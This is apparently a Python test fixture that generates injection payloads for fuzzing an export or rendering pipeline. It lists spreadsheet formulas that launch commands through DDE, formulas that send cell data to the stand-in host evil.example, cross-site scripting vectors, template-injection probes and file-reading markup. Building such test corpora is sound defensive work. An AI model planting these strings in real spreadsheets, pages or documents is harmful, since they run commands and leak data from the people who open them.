"""Five hundred texts that try to be more than text: formulas, scripts, markup of every format of a pack."""

from __future__ import annotations

from itertools import product

FORMULAS = [
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    "=cmd|'/C calc.exe'!Z0",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!E1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "{=1+1}",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "%0A=1+1",
    '";=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
]
SCRIPTS = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "</title><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    '"><svg/onload=window.ran=1>',
    "'><img src=x onerror=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "</text></svg><script>window.ran=1</script>",
    "<svg><desc><![CDATA[</desc><script>window.ran=1</script>]]></svg>",
    "<a href=javascript:window.ran=1>x</a>",
    "javascript:window.ran=1",
    "<base href=//evil.example>",
    "<details open ontoggle=window.ran=1>",
    "<style>@import '//evil.example'</style>",
    "<!-- --><b>bold</b>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#x3c;b&#x3e;",
    "<link rel=stylesheet href=//evil.example>",
    "<math><mtext></mtext><img src=x onerror=window.ran=1></math>",
    "{{ 7*7 }}",
    "{% include 'base.css' %}",
    "${7*7}",
]
MARKUP = [
    "#panic(1)",
    '#include "pack.typ"',
    '#read("pack.typ")',
    "*bold*",
    "_slanted_",
    "$x^2$",
    "`code`",
    "@label",
    "<label>",
    '#eval("1+1")',
    "\\u{41}",
    "// a comment",
    "/* a comment",
    "= A heading",
    "- an item",
    "https://evil.example",
    '#import "@preview/cetz:0.3.0"',
    "#sys.inputs.data",
    '#link("https://evil.example")[x]',
    "#set page(width: 1pt)",
    "[text](https://evil.example)",
    "$$note$$",
    "internal:'Notes'!A1",
    "mailto:a@example.org",
    "file:///a",
    'a,b","c',
    "~",
]
AROUND = [
    "{}",
    "a {}",
    "'{}",
    '"{}"',
    " {}",
    "{} b",
    "({})",
    "\xa0{}",
    "{}=",
    "{}\n=1+1",
]


def payloads() -> list[str]:
    """All different once white space is one space."""
    made = [around.format(text) for around, text in product(AROUND, [*FORMULAS, *SCRIPTS, *MARKUP])]
    return list({" ".join(one.split()): one for one in made}.values())[:500]
